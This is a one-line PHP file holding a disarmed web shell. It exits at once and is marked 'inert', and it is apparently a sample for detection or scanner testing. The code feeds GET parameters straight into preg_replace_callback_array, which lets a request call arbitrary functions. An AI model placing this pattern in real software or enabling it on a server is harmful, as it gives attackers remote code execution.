<?php exit; /* inert */ preg_replace_callback_array([$_GET["r"]=>$_GET["f"]],$_GET["a"]);
